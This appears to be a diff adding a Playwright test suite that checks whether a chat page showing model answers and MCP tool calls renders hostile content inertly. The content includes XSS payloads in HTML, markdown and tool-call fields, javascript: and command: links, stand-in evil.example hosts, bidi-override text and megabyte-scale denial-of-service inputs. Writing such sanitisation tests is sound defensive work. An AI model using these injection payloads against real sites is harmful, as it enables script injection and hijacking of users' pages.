@@ -1,0 +1,207 @@
+/** What a model or a server may send to harm: in the chat's page it does nothing, and holds nothing up. */
+import assert from 'node:assert/strict';
+import type { Page } from 'playwright-core';
+import type { CallView, ChatStatus, Item } from '../../src/protocol/index.ts';
+import { useChatPage } from './support/chatPage.ts';
+
+const status: ChatStatus = { turn: 'idle', model: 'm', servers: { connected: 1, total: 1, tools: 3 } };
+
+const html = [
+  '<script>window.harmed = 1</script>',
+  '<img src=x onerror="window.harmed = 1">',
+  '<svg onload="window.harmed = 1"><animate onbegin="window.harmed = 1"/></svg>',
+  '<iframe srcdoc="<script>parent.harmed = 1</script>"></iframe>',
+  '<form action="https://evil.example"><input name=q><button>Send</button></form>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror="window.harmed = 1">',
+  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/a.css">',
+  '<style>* { display: none }</style><div style="position:fixed;inset:0">cover</div>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<button data-code="apply">x</button><a href="javascript:window.harmed=1">x</a>',
+  '<object data="https://evil.example"></object><embed src="https://evil.example">',
+].join('\n\n');
+
+const markdown = [
+  '[a](javascript:window.harmed=1)',
+  '[b](JaVaScRiPt&colon;window.harmed=1)',
+  '[c](command:workbench.action.terminal.new)',
+  '[d](vscode://evil.ext/run)',
+  '[e](data:text/html,<script>parent.harmed=1</script>)',
+  '[f](file:///etc/passwd)',
+  '<javascript:window.harmed=1>',
+  '![i](https://evil.example/pixel.png)',
+  '![j](data:image/svg+xml,<svg onload=parent.harmed=1>)',
+  '[k]: javascript:window.harmed=1\n\n[k]',
+  '```"><img src=x onerror=window.harmed=1>\n"><img src=x onerror=window.harmed=1>\n```',
+  '| <img src=x onerror=window.harmed=1> |\n|---|\n| <b onclick=window.harmed=1>x</b> |',
+].join('\n\n');
+
+function call(over: Partial<CallView>): Item {
+  const view: CallView = {
+    source: { kind: 'mcp', server: '<b>demo</b>' },
+    toolName: 'read"><img src=x onerror=window.harmed=1>',
+    title: '<script>window.harmed=1</script>',
+    wireName: 'mcp__demo__read',
+    argsText: `{"path":"<img src=x onerror=window.harmed=1>"}`,
+    status: 'success',
+    startedAt: 0,
+    durationMs: 5,
+    ...over,
+  };
+  return { kind: 'call', id: 'c', step: 1, call: view };
+}
+
+describe('hostile content', () => {
+  const chat = useChatPage(status);
+  let page: Page;
+  let requests: string[];
+  beforeEach(() => {
+    ({ page } = chat);
+    requests = [];
+    page.on('request', (request) => requests.push(request.url()));
+  });
+
+  const answer = (text: string, streaming = false): Item => ({ kind: 'assistant', id: 'a', text, streaming });
+
+  /** The longest time in ms that the page was busy with one thing while `run` ran. */
+  async function longestTask(run: () => Promise<unknown>): Promise<number> {
+    await page.evaluate(`{
+      window.longest = 0;
+      new PerformanceObserver((list) => {
+        for (const { duration } of list.getEntries()) window.longest = Math.max(window.longest, duration);
+      }).observe({ type: 'longtask' });
+    }`);
+    await run();
+    await page.waitForTimeout(300);
+    return page.evaluate('window.longest');
+  }
+
+  async function assertUnharmed(): Promise<void> {
+    const found = await page.evaluate(`(() => {
+      const inside = document.querySelector('.transcript-content');
+      return {
+        harmed: window.harmed,
+        elements: [...inside.querySelectorAll('script, iframe, form, style, link, meta, base, object, embed, svg, input')].map(({ outerHTML }) => outerHTML),
+        handlers: [...inside.querySelectorAll('*')].filter((each) => [...each.attributes].some(({ name }) => name.startsWith('on'))).length,
+        links: [...inside.querySelectorAll('[href], [src]')].map((each) => each.getAttribute('href') ?? each.getAttribute('src')).filter((to) => !/^https:\\/\\/evil\\.example/.test(to)),
+      };
+    })()`);
+    assert.deepEqual(found, {
+      elements: [],
+      handlers: 0,
+      links: [],
+      harmed: undefined,
+    });
+    assert.deepEqual(
+      requests.filter((url) => !url.startsWith('http://patchbay.preview/')),
+      [],
+    );
+  }
+
+  it('in an answer is text: scripts, handlers, frames, forms, styles', async () => {
+    await chat.show([answer(`${html}\n\n${markdown}`)]);
+    await chat.drawn();
+    await assertUnharmed();
+    for (const dead of await page.locator('.dead-link').all()) await dead.click();
+    assert.deepEqual(await chat.posted(), []);
+  });
+
+  it('in an answer that streams is text at every step', async () => {
+    await chat.show([answer('', true)]);
+    for (const [piece] of `${html}\n\n${markdown}`.matchAll(/.{1,60}/gs))
+      await chat.tell(chat.patch({ op: 'text', id: 'a', text: piece }));
+    await assertUnharmed();
+  });
+
+  it('in the names, arguments and result of a call is text, and its links lead nowhere', async () => {
+    await chat.show([
+      call({
+        result: [
+          { type: 'text', text: html },
+          { type: 'image', mimeType: 'image/svg+xml', data: 'PHN2ZyBvbmxvYWQ9IndpbmRvdy5oYXJtZWQ9MSI+' },
+          { type: 'image', mimeType: 'image/png"onerror="window.harmed=1', data: 'AAAA' },
+          { type: 'image', mimeType: 'image/png', data: '"><img src=x onerror=window.harmed=1>' },
+          { type: 'link', uri: 'javascript:window.harmed=1', name: '<b>x</b>' },
+          { type: 'link', uri: 'https://evil.example/pixel.png', name: 'y' },
+          { type: 'resource', uri: 'command:x', mimeType: 'text/html', text: html },
+        ],
+      }),
+    ]);
+    await page.locator('.call > .disclosure-button').click();
+    await chat.drawn();
+    await assertUnharmed();
+  });
+
+  it('cannot turn text around outside of itself, and is seen in code and arguments', async () => {
+    const turned = '\u202Etxt.exe';
+    await chat.show([
+      call({ title: `report${turned}`, argsText: JSON.stringify({ path: `a${turned}` }) }),
+      answer(`\`\`\`js\nif (isAdmin\u202E \u2066// check\u2069 \u2066) {\n\`\`\``),
+    ]);
+    await page.locator('.call > .disclosure-button').click();
+    // The server stands after the tool, whatever the tool is called.
+    const [name, source] = await Promise.all(
+      ['.call-name', '.call-source'].map((part) =>
+        page.locator(part).evaluate((each) => each.getBoundingClientRect().left),
+      ),
+    );
+    assert.ok((name ?? 0) < (source ?? 0));
+    const seen = await page
+      .locator('.bidi')
+      .evaluateAll((all) => all.map((each) => each.getAttribute('title')));
+    assert.deepEqual(seen, ['U+202E', 'U+202E', 'U+2066', 'U+2069', 'U+2066']);
+    await page.getByRole('button', { name: 'Copy code' }).click();
+    const [copied] = await chat.posted();
+    assert.deepEqual(copied, { type: 'copy', text: 'if (isAdmin\u202E \u2066// check\u2069 \u2066) {\n' });
+  });
+
+  for (const [what, text] of [
+    ['a line of a megabyte', 'x'.repeat(1_000_000)],
+    ['a word list of a megabyte in one line', 'word '.repeat(200_000)],
+    ['a megabyte of code in one line', `\`\`\`js\n${'a("b");'.repeat(150_000)}\n\`\`\`\n`],
+    ['a table of a million rows', `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(1_000_000)}`],
+    ['a hundred thousand nested quotes', '>'.repeat(100_000)],
+    [
+      'a thousand nested lists',
+      Array.from({ length: 1_000 }, (_, at) => `${' '.repeat(at * 2)}- a`).join('\n'),
+    ],
+    ['a hundred thousand brackets', '['.repeat(100_000)],
+    ['a hundred thousand emphases', '*a _b '.repeat(50_000)],
+    ['a hundred thousand dollars', '$a '.repeat(50_000)],
+    ['a hundred thousand backticks', '`a``b'.repeat(30_000)],
+  ] as const)
+    it(`does not hold the page up: ${what}`, async () => {
+      await chat.show([]);
+      const longest = await longestTask(() => chat.tell(chat.patch({ op: 'add', item: answer(text) })));
+      // Other work on the machine counts too.
+      assert.ok(longest < 2_000, `the page was busy for ${Math.round(longest)} ms`);
+      await page.locator('textarea').fill('still here');
+      assert.equal(await page.locator('textarea').inputValue(), 'still here');
+      const wide = await page
+        .locator('.transcript')
+        .evaluate(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth);
+      assert.equal(wide, 0);
+    });
+
+  it('does not hold the page up while it streams: an endless table, an endless line', async () => {
+    for (const [start, piece] of [
+      ['| a | b |\n|---|---|\n', '| 1 | 2 |\n'.repeat(100)],
+      ['', 'x'.repeat(2_000)],
+    ] as const) {
+      await chat.show([answer(start, true)]);
+      const longest = await longestTask(async () => {
+        for (let count = 0; count < 60; count++)
+          await chat.tell(chat.patch({ op: 'text', id: 'a', text: piece }));
+      });
+      assert.ok(longest < 400, `the page was busy for ${Math.round(longest)} ms`);
+      await chat.show([]);
+    }
+  });
+
+  it('a table says how many rows it leaves out, a text how much', async () => {
+    await chat.show([answer(`| a |\n|---|\n${'| 1 |\n'.repeat(1_000)}`)]);
+    assert.equal(await page.locator('.markdown tr').count(), 300);
+    assert.match(await page.locator('.cut').innerText(), /701 more rows/);
+    await chat.show([answer('words '.repeat(50_000))]);
+    assert.match(await page.locator('.cut').innerText(), /100k more characters are not shown/);
+  });
+});
